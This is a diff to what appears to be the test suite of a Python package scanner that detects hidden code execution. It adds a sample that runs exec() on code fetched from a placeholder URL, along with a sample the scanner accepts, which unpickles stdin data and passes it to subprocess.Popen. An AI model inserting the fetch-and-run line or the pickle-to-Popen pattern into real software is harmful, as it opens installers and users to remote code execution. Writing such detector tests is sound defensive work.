@@ -125,6 +125,12 @@ _good(
 )
 _good(
     "BH101",
+    "command_from_another_process",
+    "import base64, pickle, subprocess, sys\ndef f():\n    text = sys.stdin.readline().strip()\n"
+    "    command, options = pickle.loads(base64.b64decode(text))\n    subprocess.Popen(command, **options)\n",
+)
+_good(
+    "BH101",
     "name_of_a_process_in_base64",
     "import base64, subprocess\nsubprocess.run(['cat', base64.b32encode(b'x').decode('ascii')])\n",
 )
@@ -150,6 +156,12 @@ def test_in_a_wheel() -> Built:
 @bad("BH101", at="sample-1.0/tests/test_run.py:2", severity="info")
 def test_in_an_sdist() -> Built:
     return in_sdist(_DECODED + "exec(zlib.decompress(b''))\n", "tests/test_run.py")
+
+
+@bad("BH101", at="sample-1.0/tools/bootstrap.py:2", severity="warning", says="reads from the network")
+def script_in_an_sdist() -> Built:
+    source = "from urllib.request import urlopen\nexec(urlopen('https://files.example/x').read())\n"
+    return in_sdist(source, "tools/bootstrap.py")
 
 
 @bad("BH101", at="sample-1.0/sample/run.py:2")
